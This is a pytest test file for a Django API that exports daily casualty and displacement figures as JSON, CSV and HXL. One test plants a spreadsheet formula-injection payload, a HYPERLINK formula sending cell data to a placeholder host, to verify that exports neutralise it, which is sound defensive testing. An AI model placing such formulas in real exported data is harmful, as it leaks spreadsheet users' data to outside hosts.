"""Daily figures through the API: current after each write, filtered, exported as CSV and HXL."""

import csv
import io

import pytest

from tests.api.conftest import client_for
from tests.factories import AgencyFactory, UserFactory
from tracker.models import Role

pytestmark = pytest.mark.django_db
URL = "/api/v1/figures/daily/"


@pytest.fixture
def submitted(api, verifier_api, areas, django_capture_on_commit_callbacks):
    """Two agencies' reports for the same district and day, verified; one pending elsewhere."""
    other = client_for(UserFactory(agency=AgencyFactory(code="SCD"), role=Role.REPORTER))
    with django_capture_on_commit_callbacks(execute=True):
        for client, killed in ((api, 3), (other, 5)):
            report = client.post(
                "/api/v1/reports/",
                {"area": "ZZ0101", "period_start": "2024-11-28", "killed": killed},
                format="json",
            ).json()
            verifier_api.post(f"/api/v1/reports/{report['id']}/verify/")
        api.post(
            "/api/v1/reports/",
            {"area": "ZZ0102", "period_start": "2024-11-28", "displaced": 40},
            format="json",
        )


def test_figures_are_current_when_the_request_returns(api, submitted):
    rows = api.get(URL, {"area": "ZZ0101"}).json()["results"]
    assert len(rows) == 1
    row = rows[0]
    assert (row["area"], row["level"], row["date"]) == ("ZZ0101", 2, "2024-11-28")
    assert (row["killed"], row["killed_low"], row["killed_high"]) == (5, 3, 8)
    assert row["killed_cumulative"] == 5 and row["displaced"] is None
    assert (row["report_count"], row["agency_count"]) == (2, 2)


def test_parents_add_up_children_and_count_pending_reports(api, submitted):
    (governorate,) = api.get(URL, {"area": "ZZ01"}).json()["results"]
    assert (governorate["killed"], governorate["killed_high"]) == (5, 8)
    assert governorate["pending_reports"] == 1
    levels = api.get(URL, {"area": "ZZ", "level": 2}).json()["results"]
    assert [r["area"] for r in levels] == ["ZZ0101"]  # the other district has no verified report


def test_filters_refuse_bad_values(api):
    for params in (
        {"area": "nowhere"},
        {"level": 9},
        {"date_from": "2024-13-01"},
        {"format": "pdf"},
    ):
        response = api.get(URL, params)
        assert response.status_code == 400 and next(iter(params)) in response.json()


def test_csv_and_hxl_exports_carry_the_json_columns(api, submitted):
    json_row = api.get(URL, {"area": "ZZ0101"}).json()["results"][0]
    response = api.get(URL, {"area": "ZZ", "level": 2, "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == list(json_row)
    assert dict(zip(rows[0], rows[1], strict=True))["killed_high"] == "8"

    hxl = api.get(URL, {"area": "ZZ", "level": 2, "format": "hxl"})
    header, tags, *data = csv.reader(io.StringIO(b"".join(hxl.streaming_content).decode()))
    tagged = dict(zip(header, tags, strict=True))
    assert tagged["adm2_code"] == "#adm2+code" and tagged["adm1_code"] == "#adm1+code"
    assert tagged["country_code"] == "#country+code" and tagged["date"] == "#date+occurred"
    assert tagged["killed"] == "#affected+killed+total+value"
    assert tagged["killed_children"] == "#affected+killed+children+value"
    district = dict(zip(header, data[0], strict=True))
    assert (district["adm2_code"], district["adm1_code"], district["country_code"]) == (
        "ZZ0101", "ZZ01", "ZZ"
    )  # fmt: skip
    assert district["adm3_code"] == "" and len(data) == 1
    for params in ({"level": 1}, {"level": 3}, {}):  # governorates, none, every level
        export = api.get(URL, {**params, "format": "hxl"})
        assert list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))[1] == tags


def test_each_row_is_what_the_figure_serializer_gives(api, submitted):
    """The JSON and CSV rows are formatted by hand for speed: they must be the serializer's."""
    from api.serializers import FigureSerializer
    from tracker.models import DailyFigure

    expected = {
        (f.area.pcode, f.date.isoformat()): dict(FigureSerializer(f).data)
        for f in DailyFigure.objects.select_related("area")
    }
    rows = api.get(URL).json()["results"]
    assert {(r["area"], r["date"]): r for r in rows} == expected
    export = b"".join(api.get(URL, {"format": "csv"}).streaming_content).decode()
    exported = list(csv.DictReader(io.StringIO(export)))
    shown = {
        key: {k: "" if v is None else str(v) for k, v in row.items()}
        for key, row in expected.items()
    }
    assert {(r["area"], r["date"]): r for r in exported} == shown


def test_a_report_sent_while_the_broker_is_down_is_kept_for_the_sweep(
    api, areas, settings, django_capture_on_commit_callbacks
):
    """The broker is only told; the stale records, committed with the report, are what counts."""
    from tasks import celery_app
    from tracker.models import Report, StaleFigure
    from tracker.services import figures

    settings.REDIS_URL = "redis://127.0.0.1:1/0"  # nothing listens there
    figures._broker.cache_clear()
    celery_app.conf.task_always_eager = False
    try:
        with django_capture_on_commit_callbacks(execute=True) as queued:
            response = api.post(
                "/api/v1/reports/",
                {"area": "ZZ0101", "period_start": "2024-11-28", "killed": 3},
                format="json",
            )
    finally:
        celery_app.conf.task_always_eager = True
        figures._broker.cache_clear()
    assert response.status_code == 201 and len(queued) == 1
    assert Report.objects.filter(pk=response.json()["id"]).exists()
    assert StaleFigure.objects.exists()  # for the sweep, once the broker is back


def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(api, submitted, areas):
    """Names come from area files anyone may have edited: `=HYPERLINK(...)` must reach a
    spreadsheet as text. Numbers stay numbers."""
    names = {"district": '=HYPERLINK("http://x.example/?"&A1,"Idleb")', "governorate": "+1",
             "country": "@SUM(1)", "other_district": "-2"}  # fmt: skip
    for name, area in areas.items():
        area.name_en = names[name]
        area.save()
    json_names = {row["area_name"] for row in api.get(URL).json()["results"]}
    assert json_names == set(names.values()) - {"-2"}  # the API's JSON keeps them as they are
    for export in ("csv", "hxl"):
        content = b"".join(api.get(URL, {"format": export}).streaming_content).decode()
        rows = list(csv.DictReader(io.StringIO(content)))[(export == "hxl") :]
        assert {row["area_name"] for row in rows} == {"'" + n for n in json_names}
        assert {row["killed_high"] for row in rows} == {"8"}
    from api.views.figures import spreadsheet_safe

    assert spreadsheet_safe(["\tx", "\rx", "ok", "a=b", -3, None]) == [
        "'\tx", "'\rx", "ok", "a=b", -3, None
    ]  # fmt: skip
